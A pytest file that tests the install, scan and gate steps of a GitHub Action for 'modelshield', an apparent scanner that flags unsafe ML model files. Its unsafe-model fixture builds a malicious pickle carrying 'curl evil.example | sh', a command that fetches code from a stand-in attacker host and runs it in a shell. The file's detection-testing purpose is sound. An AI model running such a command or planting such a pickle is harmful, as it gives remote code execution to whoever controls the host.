"""The GitHub Action's shell steps, run as the runner runs them (`bash --noprofile --norc -eo pipefail`)
with the environment the runner gives them: install from the action's own checkout (offline here), scan
to SARIF with a job summary, then the gate that fails the job by policy."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import yaml
from safetensors.numpy import save_file

from tests.helpers import evil_pickle

ACTION = Path(__file__).resolve().parents[2] / "action.yml"


def steps() -> dict[str, dict[str, Any]]:
    document = yaml.safe_load(ACTION.read_text())
    assert document["runs"]["using"] == "composite"
    return {step["id"]: step for step in document["runs"]["steps"] if "id" in step}


def run_step(step: dict[str, Any], env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess[str]:
    script = step["run"]
    assert "${{" not in script  # every input reaches the script through `env`, never by text substitution
    return subprocess.run(
        ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", script],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=600,
        check=False,
    )


@pytest.fixture(scope="session")
def runner(tmp_path_factory: pytest.TempPathFactory, source_repo: Path, offline_env: dict[str, str]) -> dict[str, str]:
    """A runner's environment after the install step: a fresh Python with modelshield from the action."""
    venv = tmp_path_factory.mktemp("runner") / "python"
    subprocess.run([sys.executable, "-m", "venv", str(venv)], check=True)
    env = {**offline_env, "PATH": f"{venv / 'bin'}{os.pathsep}{offline_env['PATH']}", "ACTION_PATH": str(source_repo)}
    env.pop("VIRTUAL_ENV", None)
    installed = run_step(steps()["install"], env, source_repo)
    assert installed.returncode == 0, installed.stderr
    assert installed.stdout.startswith("modelshield ")
    return env


def scan(runner: dict[str, str], tmp_path: Path, **inputs: str) -> tuple[dict[str, str], str, int]:
    """The scan and gate steps; returns the step outputs, the job summary and the gate's exit code."""
    outputs, summary = tmp_path / "output", tmp_path / "summary"
    env = {
        **runner,
        "GITHUB_OUTPUT": str(outputs),
        "GITHUB_STEP_SUMMARY": str(summary),
        "REPORT_DIR": str(tmp_path),
        "INPUT_PATHS": inputs.get("paths", "."),
        "INPUT_FAIL_ON": inputs.get("fail_on", "medium"),
        "INPUT_POLICY": inputs.get("policy", ""),
        "INPUT_ARGS": inputs.get("args", ""),
    }
    scanned = run_step(steps()["scan"], env, tmp_path)
    assert scanned.returncode == 0, scanned.stderr  # the scan step never fails: the gate decides
    values = dict(line.split("=", 1) for line in outputs.read_text().splitlines())
    gate = run_step(steps()["gate"], {**env, "SCAN_EXIT_CODE": values["exit-code"]}, tmp_path)
    return values, summary.read_text() if summary.exists() else "", gate.returncode


def models(folder: Path, evil: bool) -> Path:
    folder.mkdir()
    save_file({"w": np.zeros((2, 2), dtype=np.float32)}, str(folder / "model.safetensors"))
    if evil:
        (folder / "extra.bin").write_bytes(evil_pickle("curl evil.example | sh"))
    return folder


def test_clean_models_pass(runner: dict[str, str], tmp_path: Path) -> None:
    models(tmp_path / "models", evil=False)
    outputs, summary, gate = scan(runner, tmp_path, paths="models")
    assert outputs["exit-code"] == "0" and gate == 0
    assert json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"] == []
    assert "0 finding(s)" in summary


def test_unsafe_model_fails_the_job_with_the_finding(runner: dict[str, str], tmp_path: Path) -> None:
    models(tmp_path / "models", evil=True)
    (tmp_path / "other").mkdir()
    outputs, summary, gate = scan(runner, tmp_path, paths="other\nmodels")
    assert outputs["exit-code"] == "1" and gate == 1
    results = json.loads(Path(outputs["sarif"]).read_text())["runs"][0]["results"]
    assert [r["ruleId"] for r in results if r["ruleId"] == "PKL001"] == ["PKL001"]
    assert "| error | PKL001 | `models/extra.bin` |" in summary


def test_policy_inputs_change_the_verdict(runner: dict[str, str], tmp_path: Path) -> None:
    models(tmp_path / "models", evil=True)
    outputs, _, gate = scan(runner, tmp_path, paths="models", args="--ignore PKL001,SCN*")
    assert outputs["exit-code"] == "0" and gate == 0
    policy = tmp_path / "policy.toml"
    policy.write_text('fail-on = "critical"\n[[suppress]]\nrule = "PKL001"\nreason = "test fixture"\n')
    outputs, _, gate = scan(runner, tmp_path, paths="models", policy=str(policy))
    assert outputs["exit-code"] == "0" and gate == 0


def test_unreadable_input_fails_as_an_error(runner: dict[str, str], tmp_path: Path) -> None:
    outputs, _, gate = scan(runner, tmp_path, paths="does-not-exist")
    assert outputs["exit-code"] == "2" and gate == 2
